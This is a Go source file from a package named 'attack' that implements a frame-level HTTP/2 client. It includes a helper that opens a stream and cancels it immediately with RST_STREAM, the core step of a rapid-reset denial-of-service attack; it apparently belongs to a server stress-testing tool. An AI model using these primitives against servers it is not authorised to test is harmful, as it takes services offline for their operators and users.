package attack

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2Client is one HTTP/2 connection driven frame by frame (RFC 9113), so
// that an attack can do what a well-behaved client never does. Reads
// belong to one goroutine; writes may come from any, under wmu.
type h2Client struct {
	t  Target
	c  net.Conn
	fr *http2.Framer

	// maxStreams is the peer's SETTINGS_MAX_CONCURRENT_STREAMS from its
	// first SETTINGS frame; maxStreamsSet is false when it sent none.
	maxStreams    uint32
	maxStreamsSet bool

	wmu    sync.Mutex
	bw     *bufio.Writer
	hbuf   bytes.Buffer
	henc   *hpack.Encoder
	nextID uint32
}

// dialH2 opens an HTTP/2 connection to t (TLS with ALPN h2, or cleartext
// with prior knowledge), sends the preface and settings, and reads the
// peer's SETTINGS, which it acknowledges.
func dialH2(ctx context.Context, t Target, settings ...http2.Setting) (*h2Client, error) {
	c, err := t.dial(ctx, "h2")
	if err != nil {
		return nil, err
	}
	h := &h2Client{t: t, c: c, bw: bufio.NewWriterSize(c, 32<<10), nextID: 1}
	h.henc = hpack.NewEncoder(&h.hbuf)
	h.fr = http2.NewFramer(h.bw, c)
	h.fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	c.SetDeadline(time.Now().Add(t.Timeout))
	if err := h.handshake(settings); err != nil {
		c.Close()
		return nil, fmt.Errorf("attack: HTTP/2 handshake with %s: %w", t.Addr, err)
	}
	c.SetDeadline(time.Time{})
	return h, nil
}

func (h *h2Client) handshake(settings []http2.Setting) error {
	if _, err := io.WriteString(h.bw, http2.ClientPreface); err != nil {
		return err
	}
	if err := h.fr.WriteSettings(settings...); err != nil {
		return err
	}
	if err := h.bw.Flush(); err != nil {
		return err
	}
	f, err := h.fr.ReadFrame()
	if err != nil {
		return err
	}
	sf, ok := f.(*http2.SettingsFrame)
	if !ok || sf.IsAck() {
		return fmt.Errorf("first frame is %v, not SETTINGS", f.Header().Type)
	}
	h.maxStreams, h.maxStreamsSet = sf.Value(http2.SettingMaxConcurrentStreams)
	if err := h.fr.WriteSettingsAck(); err != nil {
		return err
	}
	return h.bw.Flush()
}

// open writes the HEADERS of a new GET stream and returns its ID; with
// cancel it follows them at once with RST_STREAM(CANCEL). It does not
// flush: call flush.
func (h *h2Client) open(cancel bool) (uint32, error) {
	h.wmu.Lock()
	defer h.wmu.Unlock()
	id := h.nextID
	h.nextID += 2
	h.hbuf.Reset()
	for _, f := range [][2]string{
		{":method", "GET"}, {":scheme", h.t.scheme()}, {":authority", h.t.Host},
		{":path", h.t.Path}, {"user-agent", "portcullis-attack"},
	} {
		h.henc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	err := h.fr.WriteHeaders(http2.HeadersFrameParam{
		StreamID: id, BlockFragment: h.hbuf.Bytes(), EndStream: true, EndHeaders: true,
	})
	if err == nil && cancel {
		err = h.fr.WriteRSTStream(id, http2.ErrCodeCancel)
	}
	return id, err
}

// cancel writes and flushes RST_STREAM(CANCEL) for stream id.
func (h *h2Client) cancel(id uint32) error {
	h.wmu.Lock()
	defer h.wmu.Unlock()
	if err := h.fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
		return err
	}
	h.c.SetWriteDeadline(time.Now().Add(h.t.Timeout))
	return h.bw.Flush()
}

// flush sends what open and the other writers buffered, within the
// target's timeout.
func (h *h2Client) flush() error {
	h.wmu.Lock()
	defer h.wmu.Unlock()
	h.c.SetWriteDeadline(time.Now().Add(h.t.Timeout))
	return h.bw.Flush()
}

// answer writes what a live client owes the peer for frame f: an
// acknowledgment of SETTINGS and PING, and, with credit, a connection
// WINDOW_UPDATE for DATA so that the connection's window stays open
// (stream windows are the attack's business).
func (h *h2Client) answer(f http2.Frame, credit bool) error {
	var write func() error
	switch f := f.(type) {
	case *http2.SettingsFrame:
		if !f.IsAck() {
			write = h.fr.WriteSettingsAck
		}
	case *http2.PingFrame:
		if !f.IsAck() {
			write = func() error { return h.fr.WritePing(true, f.Data) }
		}
	case *http2.DataFrame:
		if n := f.Length; credit && n > 0 {
			write = func() error { return h.fr.WriteWindowUpdate(0, n) }
		}
	}
	if write == nil {
		return nil
	}
	h.wmu.Lock()
	defer h.wmu.Unlock()
	if err := write(); err != nil {
		return err
	}
	h.c.SetWriteDeadline(time.Now().Add(h.t.Timeout))
	return h.bw.Flush()
}
